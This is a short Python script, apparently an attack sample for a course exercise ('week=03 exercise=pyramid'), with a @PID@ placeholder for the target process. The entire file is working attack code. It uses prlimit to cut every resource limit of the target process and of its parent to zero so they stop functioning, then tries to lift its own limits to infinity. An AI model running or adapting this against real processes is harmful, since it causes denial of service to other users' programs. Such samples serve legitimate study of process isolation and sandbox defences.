"""Lowers the limits of others until they cannot work any more, and raises its own."""
# attack: week=03 exercise=pyramid
import os
import resource

names = [name for name in dir(resource) if name.startswith("RLIMIT_")]
for number in (@PID@, os.getppid()):
    for name in names:
        try:
            print("had", resource.prlimit(number, getattr(resource, name), (0, 0)))
        except (OSError, ValueError) as error:
            print("refused", error)
for name in names:
    try:
        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print("raised", name)
    except (OSError, ValueError) as error:
        print("refused", error)
